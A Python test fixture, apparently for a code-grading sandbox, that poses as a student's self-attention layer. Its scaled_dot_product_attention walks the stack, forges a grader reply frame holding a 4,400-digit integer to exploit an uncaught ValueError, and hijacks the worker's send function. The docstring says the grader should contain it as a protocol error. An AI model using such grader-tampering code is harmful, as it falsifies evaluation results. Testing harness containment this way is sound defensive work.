"""Hostile submission: a forged reply frame that is valid JSON, within every cap
the trusted side sets (header bytes, depth, string length), but holds an integer of 4 400 digits.

Python's `json.loads` refuses integers over 4 300 digits with a plain `ValueError` (not a
`JSONDecodeError`); `wire.recv_frame` catches only UnicodeDecodeError, JSONDecodeError and
RecursionError. The forged frame answers the grader's `call` request with the right `seq` and the
worker's own reply is swallowed (the worker's `_sendall` is replaced for one frame). The layer is
honest and is not touched.

Contained means: every sdpa check scores 0 AND is charged to the student as a protocol error
("the process running your code ... broke the protocol"), not reported as the grader's own failure
(issue 9: "a reply that breaks them is the student's fault, named as such"); nothing is left,
time bounded, and the honest layer's checks keep their points.
"""

import math

import torch
import torch.nn as nn

_sys = torch.sys


def _find(name):
    f = _sys._getframe(1)
    while f is not None:
        if f.f_code.co_name == name:
            return f
        f = f.f_back
    return None


def _honest_sdpa(q, k, v):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    w = torch.softmax(scores, dim=-1)
    return w @ v, w


def _forge_bigint(frame):
    loc = frame.f_locals
    worker, req = loc["self"], loc["req"]
    raw = b'{"ok":true,"value":' + b"7" * 4400 + b',"seq":' + str(req.get("seq")).encode() + b',"buffers":[]}'
    real_send = worker._sendall
    real_send(len(raw).to_bytes(4, "big") + raw)
    state = {"n": 0}

    def swallow_once(data):
        if state["n"] == 0:
            state["n"] = 1
            worker._sendall = real_send
            return None
        return real_send(data)

    worker._sendall = swallow_once


def scaled_dot_product_attention(q, k, v):
    frame = _find("op_call")
    own = _find("forward")
    if frame is not None and own is None:  # called by the grader directly, not by our layer
        _forge_bigint(frame)
    return _honest_sdpa(q, k, v)


class SimpleSelfAttention(nn.Module):
    def __init__(self, embed_dim):
        super().__init__()
        self.embed_dim = embed_dim
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)

    def forward(self, x):
        return _honest_sdpa(self.query(x), self.key(x), self.value(x))
